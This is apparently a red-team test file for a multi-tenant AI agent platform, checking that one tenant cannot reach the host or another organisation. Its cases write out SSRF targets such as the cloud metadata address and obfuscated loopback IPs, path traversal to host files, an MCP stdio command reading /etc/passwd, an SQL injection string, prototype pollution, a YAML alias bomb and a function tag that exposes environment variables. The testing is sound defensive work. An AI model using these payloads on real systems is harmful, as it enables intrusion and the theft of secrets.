import assert from 'node:assert/strict'
import type { JsonObject } from '../../../src/document/json.ts'
import { type Attack, type Category, type Control, numbered } from '../attack.ts'
import { OWN, PLANTED, type TenantWorld, tenantWorld, VICTIM, VICTIM_TOO } from '../tenant-world.ts'
import type { Speaks } from '../world.ts'

/** A definition of a tenant that names something of the host or of another organisation. */
interface Named {
  readonly attack: string
  readonly agent: (world: TenantWorld) => JsonObject
  readonly root?: (world: TenantWorld) => JsonObject
  readonly says?: Speaks
}

const OBJECT = { type: 'object', properties: {} }
const tool = (more: JsonObject): JsonObject => ({
  tools: [{ name: 'get', description: 'Gets.', protocol: 'http', parameters_schema: OBJECT, ...more }],
})
const context = (value: string, type = 'file'): JsonObject => ({ context: [{ type, label: 'x', value }] })
const subagent = (ref: string): JsonObject => ({
  orchestration: { role: 'orchestrator', subagents: [{ ref, alias: 'h' }] },
})

/** The model calls the first tool that it has. */
const calls: Speaks = ({ tools = [], messages }) =>
  tools[0] === undefined || messages.at(-1)?.role === 'tool'
    ? 'Done.'
    : [{ tool: tools[0].function.name, args: {} }]

const NAMED: readonly Named[] = [
  { attack: 'a file of the host as a text, by its path', agent: ({ file }) => context(file) },
  { attack: 'a file of the host as a text, by its URL', agent: ({ file }) => context(`file://${file}`) },
  {
    attack: 'a file of the host as a text, by a relative path',
    agent: ({ file }) => context(`../../../../../..${file}`),
  },
  { attack: 'the environment of the server as a text', agent: () => context('/proc/self/environ') },
  { attack: 'a service of the host as a text', agent: ({ inside }) => context(`${inside.url}/x`, 'url') },
  {
    attack: 'the metadata address of a cloud as a text',
    agent: () => context('http://169.254.169.254/latest', 'url'),
  },
  {
    attack: 'an OpenAPI document in a file',
    agent: ({ file }) => tool({ protocol: 'openapi', endpoint: `file://${file}` }),
  },
  {
    attack: 'an OpenAPI document of a service of the host',
    agent: ({ inside }) => tool({ protocol: 'openapi', endpoint: `${inside.url}/api.json` }),
  },
  {
    attack: 'a tool at a service of the host',
    agent: ({ inside }) => tool({ endpoint: `${inside.url}/x` }),
    says: calls,
  },
  {
    attack: 'a tool at localhost',
    agent: ({ inside }) => tool({ endpoint: `http://localhost:${inside.port}/x` }),
    says: calls,
  },
  {
    attack: 'a tool at a mapped address',
    agent: ({ inside }) => tool({ endpoint: `http://[::ffff:127.0.0.1]:${inside.port}/x` }),
    says: calls,
  },
  {
    attack: 'a tool at an address in decimal',
    agent: ({ inside }) => tool({ endpoint: `http://2130706433:${inside.port}/x` }),
    says: calls,
  },
  {
    attack: 'a tool at an address in octal',
    agent: ({ inside }) => tool({ endpoint: `http://0177.0.0.1:${inside.port}/x` }),
    says: calls,
  },
  {
    attack: 'a tool behind a redirect of a granted host',
    agent: ({ outside }) => tool({ endpoint: `${outside.url}/in` }),
    says: calls,
  },
  {
    attack: 'a program as an MCP server',
    agent: () => tool({ protocol: 'mcp', endpoint: 'stdio:///bin/cat?args=/etc/passwd' }),
    says: calls,
  },
  {
    attack: 'an MCP server of the host',
    agent: ({ inside }) => tool({ protocol: 'mcp', endpoint: `${inside.url}/mcp` }),
    says: calls,
  },
  {
    attack: 'an MCP server that the operator has not named',
    agent: () => tool({ protocol: 'mcp', endpoint: 'mcp://local/x' }),
    says: calls,
  },
  {
    attack: 'a function that the operator has not installed',
    agent: () => tool({ protocol: 'function', name: 'eval' }),
    says: calls,
  },
  {
    attack: 'a module by its path as a function',
    agent: ({ file }) => tool({ protocol: 'function', name: `${file}#x` }),
    says: calls,
  },
  {
    attack: 'a hook in a module of the host',
    agent: ({ file }) => ({ runtime: { hooks: { on_start: `${file}#x` } } }),
  },
  { attack: 'a sub-agent in a file', agent: ({ file }) => subagent(file), says: calls },
  {
    attack: 'a sub-agent at a service of the host',
    agent: ({ inside }) => subagent(`${inside.url}/agent.json`),
    says: calls,
  },
  { attack: 'a sub-agent of another organisation, by its id', agent: () => subagent(VICTIM), says: calls },
  {
    attack: 'a sub-agent of another organisation, by its URI',
    agent: () => subagent(`urn:uuid:${VICTIM}`),
    says: calls,
  },
  {
    attack: 'a sub-agent of another organisation, by its name',
    agent: () => subagent('Victim'),
    says: calls,
  },
  {
    attack: 'the id of an agent of another organisation as its own',
    agent: () => ({ name: 'Mine' }),
    root: () => ({ agent_id: VICTIM_TOO }),
  },
  {
    attack: 'an address of its own for the provider, to get the key of the operator',
    agent: ({ outside }) => ({
      model: { provider: 'openai', preferred: 'm', base_url: `${outside.url}/v1` },
    }),
  },
  {
    attack: 'a provider of its own that asks for the key of another one',
    agent: ({ outside }) => ({
      model: {
        provider: 'custom',
        provider_id: 'mine',
        preferred: 'm',
        base_url: `${outside.url}/v1`,
        api_key_env: 'OPENAI_API_KEY',
      },
    }),
  },
  {
    attack: 'a variable of the host as a secret',
    agent: ({ outside }) =>
      tool({ endpoint: `${outside.url}/x`, auth: { type: 'bearer', env_var: 'HOST_ONLY' } }),
    says: calls,
  },
  {
    attack: 'the key of the provider as a secret of a tool',
    agent: ({ outside }) =>
      tool({ endpoint: `${outside.url}/x`, auth: { type: 'bearer', env_var: 'OPENAI_API_KEY' } }),
    says: calls,
  },
  {
    attack: 'the name of a secret of another organisation',
    agent: ({ outside }) =>
      tool({ endpoint: `${outside.url}/x`, auth: { type: 'bearer', env_var: 'CRM_KEY' } }),
    says: calls,
  },
  {
    attack: 'a variable in the address of a tool',
    agent: ({ outside }) => tool({ endpoint: `${outside.url}/\${HOST_ONLY}/\${env.HOST_ONLY}` }),
    says: calls,
  },
  {
    attack: 'a variable in its instructions',
    agent: () => ({
      instructions: `\${HOST_ONLY} {{HOST_ONLY}} {{env.HOST_ONLY}} <%= process.env.HOST_ONLY %>`,
    }),
  },
  {
    attack: 'a collector for telemetry',
    agent: ({ inside }) => ({ telemetry: { tracing: true, otlp_endpoint: inside.url } }),
  },
  {
    attack: 'a schema in a file',
    agent: ({ file }) => tool({ parameters_schema: { $ref: `file://${file}` } }),
  },
  {
    attack: 'a schema at a service of the host',
    agent: ({ inside }) => ({ io: { input_schema: { $ref: `${inside.url}/schema.json` } } }),
  },
  {
    attack: 'a vault of its own',
    agent: ({ inside, outside }) =>
      tool({
        endpoint: `${outside.url}/x`,
        auth: { type: 'bearer', vault_ref: { provider: 'custom', path: 'x', url: inside.url } },
      }),
    says: calls,
  },
]

/** A request of a tenant that concerns the host or another organisation. */
interface Asked {
  readonly attack: string
  readonly ask: (world: TenantWorld) => Parameters<TenantWorld['send']>
  readonly status: readonly number[]
}

const ASKED: readonly Asked[] = [
  {
    attack: 'reads a run by its id',
    ask: ({ eve, names }) => ['GET', `/v1/runs/${names.run}`, { token: eve }],
    status: [404],
  },
  {
    attack: 'reads the record of a run',
    ask: ({ eve, names }) => ['GET', `/v1/runs/${names.run}/record`, { token: eve }],
    status: [404],
  },
  {
    attack: 'reads a run with a path around it',
    ask: ({ eve, names }) => ['GET', `/v1/runs/..%2f..%2fvictim%2f${names.run}`, { token: eve }],
    status: [404],
  },
  {
    attack: 'cancels a run',
    ask: ({ eve, names }) => ['POST', `/v1/runs/${names.run}/cancel`, { token: eve }],
    status: [404],
  },
  {
    attack: 'starts an agent',
    ask: ({ eve }) => ['POST', `/v1/agents/${VICTIM}/runs`, { token: eve, json: { input: 'x' } }],
    status: [404],
  },
  {
    attack: 'writes into a session',
    ask: ({ eve }) => ['POST', '/v1/sessions/desk/messages', { token: eve, json: { input: 'x' } }],
    status: [404],
  },
  {
    attack: 'uses the cursor of a list',
    ask: ({ eve, names }) => ['GET', `/v1/runs?cursor=${encodeURIComponent(names.cursor)}`, { token: eve }],
    status: [200, 400, 422],
  },
  {
    attack: 'searches with SQL in a filter',
    ask: ({ eve }) => [
      'GET',
      `/v1/runs?user=${encodeURIComponent("' OR org = 'victim' --")}`,
      { token: eve },
    ],
    status: [200],
  },
  {
    attack: 'searches with a NUL byte',
    ask: ({ eve }) => ['GET', '/v1/memory?user=carl%00', { token: eve }],
    status: [200, 400, 422],
  },
  {
    attack: 'names another organisation in the query',
    ask: ({ eve }) => ['GET', '/v1/tokens?organisation=victim', { token: eve }],
    status: [404],
  },
  {
    attack: 'adds itself to another organisation',
    ask: ({ eve }) => [
      'POST',
      '/v1/organisations/victim/members',
      { token: eve, json: { user: 'eve', roles: ['admin'] } },
    ],
    status: [404],
  },
  {
    attack: 'adds itself to the first organisation',
    ask: ({ eve }) => [
      'POST',
      '/v1/organisations/default/members',
      { token: eve, json: { user: 'eve', roles: ['admin'] } },
    ],
    status: [403, 404],
  },
  {
    attack: 'creates an organisation',
    ask: ({ eve }) => [
      'POST',
      '/v1/organisations',
      { token: eve, json: { organisation: 'more', admin: { user: 'eve' } } },
    ],
    status: [403],
  },
  {
    attack: 'makes a token for another organisation',
    ask: ({ eve }) => [
      'POST',
      '/v1/tokens',
      { token: eve, json: { organisation: 'victim', user: 'victim' } },
    ],
    status: [404],
  },
  {
    attack: 'stops another organisation',
    ask: ({ eve }) => ['POST', '/v1/stop', { token: eve, json: { organisation: 'victim' } }],
    status: [403, 404, 422],
  },
  {
    attack: 'stops a run of another organisation',
    ask: ({ eve, names }) => ['POST', '/v1/stop', { token: eve, json: { run: names.run } }],
    status: [404],
  },
  {
    attack: 'has the service of the host notified',
    ask: ({ eve, inside }) => ['POST', '/v1/webhooks', { token: eve, json: { url: `${inside.url}/hook` } }],
    status: [400, 403, 422],
  },
  {
    attack: 'has the metadata address notified',
    ask: ({ eve }) => ['POST', '/v1/webhooks', { token: eve, json: { url: 'http://169.254.169.254/x' } }],
    status: [400, 403, 422],
  },
  {
    attack: 'names a webhook of another organisation for its run',
    ask: ({ eve, names }) => [
      'POST',
      `/v1/agents/${OWN}/runs`,
      { token: eve, json: { input: 'x', rehearse: true, webhook: names.webhook } },
    ],
    status: [404, 422],
  },
  {
    attack: 'makes a trigger for an agent of another organisation',
    ask: ({ eve }) => ['POST', '/v1/triggers', { token: eve, json: { agent_id: VICTIM, kind: 'message' } }],
    status: [404],
  },
  {
    attack: 'sends members of a prototype',
    ask: ({ eve }) => [
      'POST',
      '/v1/tokens',
      {
        token: eve,
        body: '{"__proto__":{"organisation":"victim"},"name":"x"}',
        headers: { 'content-type': 'application/json' },
      },
    ],
    status: [400, 422],
  },
  {
    attack: 'says that it comes from another host',
    ask: ({ eve }) => ['GET', '/v1/me', { token: eve, headers: { host: 'evil.test' } }],
    status: [421],
  },
  {
    attack: 'says with a proxy header that it comes from this machine',
    ask: () => [
      'GET',
      '/v1/me',
      { headers: { 'x-forwarded-for': '127.0.0.1', 'x-forwarded-host': 'localhost' } },
    ],
    status: [401],
  },
  {
    attack: 'sends its token in the address',
    ask: ({ eve }) => ['GET', `/v1/me?token=${eve}&access_token=${eve}`, {}],
    status: [401],
  },
  {
    attack: 'sends a token with another prefix',
    ask: ({ eve }) => ['GET', '/v1/me', { token: eve.replace('wbt_', 'wbt__') }],
    status: [401],
  },
  {
    attack: 'stores a secret for the service of the host',
    ask: ({ eve, inside }) => [
      'PUT',
      '/v1/secrets/X',
      { token: eve, json: { value: 'v', hosts: [`127.0.0.1:${inside.port}`] } },
    ],
    status: [200],
  },
]

const BOMB = `a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n`
const DOCUMENTS: readonly (readonly [attack: string, body: string, type: string])[] = [
  ['aliases that grow', BOMB.repeat(1), 'application/yaml'],
  ['a thousand levels', `${'['.repeat(1000)}${']'.repeat(1000)}`, 'application/json'],
  ['nine megabytes', `"${'x'.repeat(9 * 1024 * 1024)}"`, 'application/json'],
  ['a tag that constructs objects', 'a: !!js/function "function(){return process.env}"', 'application/yaml'],
]

/** After each attack: nothing was reached, and nothing that was planted is in an answer. */
async function unharmed(world: TenantWorld, before: string, seen: string): Promise<void> {
  for (const [name, planted] of Object.entries(PLANTED))
    for (const [where, text] of Object.entries({
      answers: seen,
      models: JSON.stringify(world.models.asked),
      'the server of the attacker': world.outside.text,
    }))
      assert.equal(text.includes(planted), false, `${name} is in ${where}`)
  assert.equal(world.inside.touched, 0, 'the service of the host was reached')
  assert.equal(await world.victimState(), before)
}

async function fresh(): Promise<{ readonly world: TenantWorld; readonly before: string }> {
  const world = await tenantWorld()
  world.models.asked.length = 0
  world.outside.received.length = 0
  return { world, before: await world.victimState() }
}

const attacks: readonly Attack[] = numbered('tenant', [
  ...NAMED.map(({ attack, agent, root, says }) => ({
    attack: `names ${attack}`,
    by: 'an uploaded definition',
    holds: 'it is refused, or has no effect',
    async try() {
      const { world, before } = await fresh()
      const seen = await world.attempt(agent(world), root?.(world), says)
      await unharmed(world, before, seen)
    },
  })),
  ...ASKED.map(({ attack, ask, status }) => ({
    attack,
    by: 'a request of another organisation',
    holds: 'nothing is seen or changed',
    async try() {
      const { world, before } = await fresh()
      const answer = await world.send(...ask(world))
      assert.ok(status.includes(answer.status), `${answer.status} ${answer.text.slice(0, 300)}`)
      await unharmed(world, before, answer.text)
    },
  })),
  ...DOCUMENTS.map(([attack, body, type]) => ({
    attack: `sends ${attack}`,
    by: 'an upload',
    holds: 'it is refused at once, and the platform serves others',
    async try() {
      const { world, before } = await fresh()
      const answer = await world.send('POST', '/v1/agents', {
        token: world.eve,
        body,
        headers: { 'content-type': type },
      })
      assert.ok(answer.status >= 400 && answer.status < 500, `${answer.status}`)
      await unharmed(world, before, answer.text)
    },
  })),
  {
    attack: 'calls itself an admin of the first organisation',
    by: 'the name of a member',
    holds: 'the audit log says what it is',
    async try() {
      const { world, before } = await fresh()
      const members = '/v1/organisations/eve/members'
      const json = { user: 'admin@default', roles: ['admin'] }
      const answer = await world.send('POST', members, { token: world.eve, json })
      assert.equal(answer.status, 422, answer.text)
      await unharmed(world, before, '')
    },
  },
])

const controls: readonly Control[] = [
  {
    passes: 'a tool at a granted host, with a secret of the own organisation',
    async try() {
      const { world } = await fresh()
      const value = 'own-secret-of-eve-Zb66Qn'
      const hosts = [`127.0.0.1:${world.outside.port}`]
      await world.send('PUT', '/v1/secrets/MINE', { token: world.eve, json: { value, hosts } })
      const text = await world.attempt(
        tool({ endpoint: `${world.outside.url}/x`, auth: { type: 'bearer', env_var: 'MINE' } }),
        {},
        calls,
      )
      assert.match(text, /"status":"completed"/)
      assert.equal(world.outside.received[0]?.headers.authorization, `Bearer ${value}`)
    },
  },
  {
    passes: 'the victim itself reads its run, and its agent as a sub-agent',
    async try() {
      const { world } = await fresh()
      const read = await world.send('GET', `/v1/runs/${world.names.run}/record`, { token: world.victim })
      assert.ok(read.text.includes(PLANTED.run))
    },
  },
  {
    passes: 'the provider of the operator, with its key',
    async try() {
      const { world } = await fresh()
      assert.match(await world.attempt({}), /"status":"completed"/)
      assert.equal(world.models.received.at(-1)?.headers.authorization, `Bearer ${PLANTED.key}`)
    },
  },
]

export const tenants: Category = {
  name: 'From one tenant to the host or another',
  enforced: 'the checks of uploads, the gate, the binding of secrets, row-level security',
  file: 'test/redteam/tenants.test.ts',
  attacks,
  controls,
}
